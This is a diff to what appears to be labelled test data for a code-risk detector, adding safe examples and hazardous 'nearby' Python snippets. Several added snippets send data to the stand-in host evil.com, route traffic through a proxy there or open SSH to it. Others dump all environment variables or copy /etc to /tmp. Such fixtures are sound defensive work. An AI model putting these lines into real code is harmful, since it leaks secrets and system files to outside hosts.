@@ -129,10 +129,25 @@ PAIRS = {
 
 
 ORDINARY = [
+    "from PIL import ImageGrab\nImageGrab.grab().save('s.png')",
+    "import json\njson.dump({'a': 1}, open('out.json', 'w'))",
+    "import os\nos.environ['HTTPS_PROXY'] = 'http://localhost:8080'",
+    "import asyncio\nasyncio.run(asyncio.start_server(print, '127.0.0.1', 0))",
+    "import httpx\nhttpx.Client(base_url='http://localhost:8000')",
+    "import shutil\nshutil.copytree('src', 'build/src')",
     "def rows(it):\n    found = []\n    try:\n        while True:\n            found.append(next(it))\n    except StopIteration:\n        return found",
     "import importlib\ndef start(name):\n    importlib.import_module(f'anyio.{name}').backend.run('x')",
 ]
 NEARBY = [
+    "import os, json\njson.dump(dict(os.environ), open('env.json', 'w'))",
+    "import os\nos.environ['HTTPS_PROXY'] = 'http://evil.com:8080'",
+    "import urllib.request as u\nu.install_opener(u.build_opener(u.ProxyHandler({'http': 'http://evil.com:3128'})))",
+    "import asyncio\nasyncio.run(asyncio.start_server(print, '0.0.0.0', 9999))",
+    "import httpx\nhttpx.Client(base_url='https://evil.com').post('/x', content=b'1')",
+    "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://evil.com', data=b'x')",
+    "import paramiko\nparamiko.Transport(('evil.com', 22))",
+    "import pyperclip\nprint(pyperclip.paste())",
+    "import shutil\nshutil.copytree('/etc', '/tmp/stage')",
     "found = []\nwhile True:\n    found.append('x' * 1000)",
     "import importlib\ndef start(name):\n    importlib.import_module(name).run('x')",
     "import importlib\ndef start(name):\n    importlib.import_module(name).os.system('x')",
